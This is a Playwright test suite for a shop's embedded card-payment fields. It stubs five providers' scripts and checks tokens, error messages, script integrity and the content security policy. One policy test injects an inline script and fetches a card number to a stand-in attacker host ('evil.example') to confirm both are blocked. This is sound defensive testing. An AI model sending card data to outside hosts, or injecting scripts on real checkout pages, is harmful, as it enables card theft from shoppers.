"""The shop's own scripts beside each provider's, in a browser: with stand-ins for what the providers serve.

The policy, the nonces and the hashes are the shop's real ones. The stand-ins do what each provider's documentation says
of its script, no more; the real ones have never run here.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import parse_qs

import pytest
from playwright.sync_api import expect

from .conftest import Shop, serve
from .test_fields import with_methods

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, BrowserContext, Page, Route

FIELDS = ("stripe", "mollie", "adyen", "payplug", "paypal")
METHODS = "".join(
    f"    - {{id: {name}, kind: card, provider: {name}, mode: fields, markets: [FR, BE, DE]}}\n" for name in FIELDS
)
METHODS += "    - {id: wallet, kind: wallet, provider: stripe, express: true}\n"
SECRETS = {
    "STRIPE_SECRET_KEY": "sk_test_x",
    "STRIPE_PUBLISHABLE_KEY": "pk_test_x",
    "STRIPE_WEBHOOK_SECRET": "whsec_x",
    "MOLLIE_API_KEY": "test_x",
    "MOLLIE_PROFILE_ID": "pfl_x",
    "ADYEN_API_KEY": "x",
    "ADYEN_MERCHANT_ACCOUNT": "x",
    "ADYEN_HMAC_KEY": "44782DEF",
    "ADYEN_CLIENT_KEY": "test_x",
    "PAYPLUG_SECRET_KEY": "sk_test_x",
    "PAYPAL_CLIENT_ID": "client",
    "PAYPAL_CLIENT_SECRET": "x",
}
FRAME = """
const frame = (place, label) => {
  const made = document.createElement("iframe");
  made.title = label;
  place.append(made);
};
window.said = [];
"""
# What each provider's script is documented to do: https://docs.stripe.com/js,
# https://docs.mollie.com/reference/mollie-object,
# https://docs.adyen.com/payment-methods/cards/web-component, https://docs.payplug.com/integratedref.html,
# https://developer.paypal.com/sdk/js/reference/#card-fields
SCRIPTS = {
    "js.stripe.com": """
window.Stripe = (key) => ({
  elements: (options) => {
    said.push([key, options.mode, options.amount > 0, options.paymentMethodTypes]);
    const on = {};
    return {
      create: (type, options) => ({
        on: (event, work) => (on[event] = work),
        mount: (place) => {
          const at = typeof place === "string" ? document.querySelector(place) : place;
          frame(at, type);
          setTimeout(() => on.ready({ availablePaymentMethods: { applePay: true } }));
          window.act = (event, detail) => on[event](detail);
          said.push(options);
        },
        focus: () => said.push("focus"),
      }),
      submit: async () => (window.wrong ? { error: new Error(window.wrong) } : {}),
      update: (change) => said.push(change),
    };
  },
  createConfirmationToken: async () => ({ confirmationToken: { id: "ctoken_1" } }),
  handleNextAction: async (asked) => said.push(asked),
});""",
    "js.mollie.com": """
window.Mollie = (profile, options) => {
  said.push([profile, options]);
  return {
    createComponent: (type) => ({ mount: (place) => frame(place, type), addEventListener: () => {} }),
    createToken: async () => (window.wrong ? { error: new Error(window.wrong) } : { token: "tkn_1" }),
  };
};""",
    "cdn.adyen.com": """
window.AdyenWeb = {
  AdyenCheckout: async (options) => (said.push(options), options),
  Card: class {
    mount(place) { frame(place, "card"); return this; }
    get isValid() { return !window.wrong; }
    showValidation() { said.push("shown"); }
    get data() {
      return { paymentMethod: { type: "scheme", encryptedCardNumber: "eyJ" }, browserInfo: { userAgent: "x" } };
    }
  },
};""",
    "cdn.payplug.com": """
window.Payplug = { IntegratedPayment: class {
  constructor(test) { said.push(test); }
  cardHolder(place) { frame(place, "holder"); }
  cardNumber(place) { frame(place, "number"); }
  expiration(place) { frame(place, "expiry"); }
  cvv(place) { frame(place, "cvv"); }
  getSupportedSchemes() { return [{ id: 1, name: "CB" }, { id: 2, name: "Visa" }]; }
  onValidateForm(work) { this.judged = work; }
  onCompleted(work) { this.done = work; }
  validateForm() { setTimeout(() => this.judged({ isFormValid: !window.wrong })); }
  pay(...asked) { said.push(asked); setTimeout(() => this.done({})); }
} };""",
    "www.paypal.com": """
window.paypal = { CardFields: (callbacks) => {
  const field = (type) => () => ({ render: async (place) => frame(place, type) });
  return {
    isEligible: () => true,
    getState: async () => ({ isFormValid: !window.wrong }),
    NameField: field("name"), NumberField: field("number"), ExpiryField: field("expiry"), CVVField: field("cvv"),
    submit: async () => { said.push(await callbacks.createOrder()); await callbacks.onApprove({}); },
  };
} };""",
}


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    work: Path = tmp_path_factory.mktemp("providers")
    yield from serve(with_methods(work, METHODS), work, **SECRETS)


@pytest.fixture
def stand_ins(browser: Browser) -> Iterator[BrowserContext]:
    """A browser that gets the stand-ins from the providers' addresses, and nothing else from outside the shop."""
    context = browser.new_context(viewport={"width": 390, "height": 1100})
    context.set_default_timeout(20_000)

    def answer(route: Route) -> None:
        url = route.request.url
        script = next((text for host, text in SCRIPTS.items() if f"{host}/" in url.split("?")[0]), None)
        if url.startswith("http://127.0.0.1"):
            route.continue_()
        elif script and (url.split("?")[0].endswith(".js") or "paypal.com/sdk/js" in url):
            headers = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript"}
            route.fulfill(status=200, headers=headers, body=FRAME + script)
        elif url.endswith("/adyen.css"):
            headers = {"Access-Control-Allow-Origin": "*", "Content-Type": "text/css"}
            route.fulfill(status=200, headers=headers, body="")
        else:
            route.abort()

    context.route("**/*", answer)
    yield context
    context.close()


@pytest.fixture(scope="module")
def orders(shop: Shop) -> dict[str, list[str]]:
    """Where orders that were made in the shop are paid, some for each method."""
    made = shop.manage(
        "shell",
        "-v",
        "0",
        "-c",
        "import json; from tests.shopping import an_order; from orders import links\n"
        f"print(json.dumps({{m: [links.token(an_order(method=m)) for _ in range(4)] for m in {FIELDS}}}))",
    )
    tokens: dict[str, list[str]] = json.loads(made.strip().splitlines()[-1])
    return {name: [f"{shop.url}/en/order/{token}/pay/{name}/" for token in found] for name, found in tokens.items()}


def open_page(
    context: BrowserContext, orders: dict[str, list[str]], method: str, answer: dict[str, Any]
) -> tuple[Page, list[dict[str, Any]]]:
    """The payment page, with the shop's answer to what is sent prepared, and what was sent to it."""
    page, sent = context.new_page(), []
    page.on("console", lambda message: sent.append({"console": message.text}) if message.type == "error" else None)
    page.on("pageerror", lambda error: sent.append({"error": str(error)}))

    def take(route: Route) -> None:
        if route.request.method == "POST":
            sent.append({key: value[0] for key, value in parse_qs(route.request.post_data or "", True).items()})
            status = 422 if "error" in answer else 200
            route.fulfill(status=status, content_type="application/json", body=json.dumps(answer))
        else:
            whole = route.fetch()  # the hash is that of the real script: the stand-in could not have it
            body = re.sub(r' integrity="sha384-[^"]*"', "", whole.text())
            route.fulfill(response=whole, body=body)

    page.route(f"**/pay/{method}/", take)
    page.goto(orders[method].pop())
    return page, sent


DONE = {"go": "/en/", "browser": {"ref": "ref_1", "secret": "secret_1"}}


@pytest.mark.parametrize(
    ("method", "fields", "typed", "after"),
    [
        ("stripe", 1, "ctoken_1", {"clientSecret": "secret_1"}),
        ("mollie", 4, "tkn_1", None),
        ("adyen", 1, '{"card":{"type":"scheme","encryptedCardNumber":"eyJ"},"browser":{"userAgent":"x"}}', None),
        ("payplug", 4, "", ["ref_1", 2, {"save_card": False}]),
        ("paypal", 4, "", "ref_1"),
    ],
)
def test_fields_stand_in_the_page_and_their_token_pays(
    shop: Shop,
    orders: dict[str, list[str]],
    stand_ins: BrowserContext,
    method: str,
    fields: int,
    typed: str,
    after: Any,
) -> None:
    page, sent = open_page(stand_ins, orders, method, DONE)
    expect(page.locator("#fields-place iframe")).to_have_count(fields)
    expect(page.locator("#fields-away")).to_have_count(0)
    if method == "payplug":
        page.get_by_label("Visa").check()
    page.evaluate("window.onpagehide = () => (sessionStorage.said = JSON.stringify(said))")
    page.locator("#fields button").click()
    expect(page).to_have_url(f"{shop.url}/en/")
    [posted] = sent
    assert posted["typed"] == typed
    said = json.loads(page.evaluate("sessionStorage.said"))
    if after is not None:
        assert after in said
    page.close()


@pytest.mark.parametrize("method", FIELDS)
def test_mistakes_and_refusals_are_said_beside_the_fields(
    orders: dict[str, list[str]], stand_ins: BrowserContext, method: str
) -> None:
    page, sent = open_page(stand_ins, orders, method, {"error": "The bank declined the payment."})
    expect(page.locator("#fields-away")).to_have_count(0)
    page.evaluate("window.wrong = 'Something is missing.'")
    page.locator("#fields button").click()
    expect(page.locator("#fields-error")).not_to_be_empty()
    assert sent == [], "nothing reaches the shop, and nothing was blocked"
    page.evaluate("delete window.wrong")
    page.locator("#fields button").click()
    expect(page.locator("#fields-error")).to_have_text("The bank declined the payment.")
    assert page.title().startswith("Error")
    expect(page.locator("#fields button")).to_have_attribute("aria-disabled", "false")
    page.close()


def test_script_that_is_not_the_one_of_the_inventory_does_not_run(
    orders: dict[str, list[str]], stand_ins: BrowserContext
) -> None:
    page = stand_ins.new_page()
    page.goto(orders["adyen"].pop())
    expect(page.locator("#fields-away")).to_be_visible()
    assert page.evaluate("typeof AdyenWeb") == "undefined"
    expect(page.locator("#fields button")).to_be_enabled()
    page.close()


def test_policy_lets_no_other_script_in_and_no_card_data_out(
    orders: dict[str, list[str]], stand_ins: BrowserContext
) -> None:
    page, _ = open_page(stand_ins, orders, "mollie", DONE)
    expect(page.locator("#fields-place iframe")).to_have_count(4)
    blocked = page.evaluate(
        """async () => {
          const tell = (work) => work.then(() => "let through", () => "blocked");
          const load = (src) => new Promise((yes, no) => {
            document.head.append(Object.assign(document.createElement("script"), { src, onload: yes, onerror: no }));
          });
          const inline = document.createElement("script");
          inline.textContent = "window.ran = true";
          document.head.append(inline);
          return [
            await tell(load("https://js.stripe.com/endive/stripe.js")),
            await tell(fetch("https://evil.example/?4242424242424242")),
            await tell(fetch("https://api.stripe.com/v1/tokens")),
            window.ran ? "let through" : "blocked",
          ];
        }"""
    )
    assert blocked == ["blocked"] * 4
    page.close()


def test_wallet_that_a_script_draws(shop: Shop, stand_ins: BrowserContext) -> None:
    page = stand_ins.new_page()
    page.goto(f"{shop.url}/en/p/torchons-metis/")
    page.locator("form[action*='cart/add'] button[type=submit]").first.click()
    cart = page.locator("form[action*='/express/wallet/'] button")
    assert page.evaluate("typeof Stripe") == "undefined"
    cart.click()
    expect(page).to_have_url(re.compile(r"/express/wallet/"))
    expect(page.locator("#wallet-place iframe")).to_have_count(1)
    quoted = page.evaluate(
        """() => new Promise((done) => act("shippingaddresschange",
             { address: { country: "DE" }, resolve: done, reject: () => done("refused") }))"""
    )
    assert quoted["shippingRates"][0]["id"] == "home"
    nowhere = page.evaluate(
        """() => new Promise((done) => act("shippingaddresschange",
             { address: { country: "IS" }, resolve: done, reject: () => done("refused") }))"""
    )
    assert nowhere == "refused"
    typed: list[str] = []

    def take(route: Route) -> None:
        typed.append(parse_qs(route.request.post_data or "")["typed"][0])
        route.fulfill(status=200, content_type="application/json", body='{"go": "/en/cart/"}')

    page.route("**/express/wallet/", take)
    page.evaluate("() => { act('confirm', { shippingRate: { id: 'home' } }) }")
    expect(page).to_have_url(re.compile(r"/en/cart/"))
    assert json.loads(typed[0]) == {"token": "ctoken_1", "option": "home"}
    page.close()
